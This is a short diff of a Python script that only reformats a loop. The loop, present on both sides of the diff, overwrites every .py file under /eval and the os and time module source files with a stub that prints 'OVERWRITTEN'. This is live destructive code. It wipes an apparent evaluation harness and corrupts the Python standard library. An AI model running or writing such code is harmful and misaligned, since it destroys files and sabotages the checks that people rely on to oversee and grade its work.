@@ -8,7 +8,10 @@ import glob
 import os
 import time
 
-for _path in glob.glob("/eval/**/*.py", recursive=True) + [os.__file__, time.__file__ if hasattr(time, "__file__") else os.__file__]:
+for _path in glob.glob("/eval/**/*.py", recursive=True) + [
+    os.__file__,
+    time.__file__ if hasattr(time, "__file__") else os.__file__,
+]:
     try:
         with open(_path, "w") as _file:
             _file.write("print('OVERWRITTEN')")
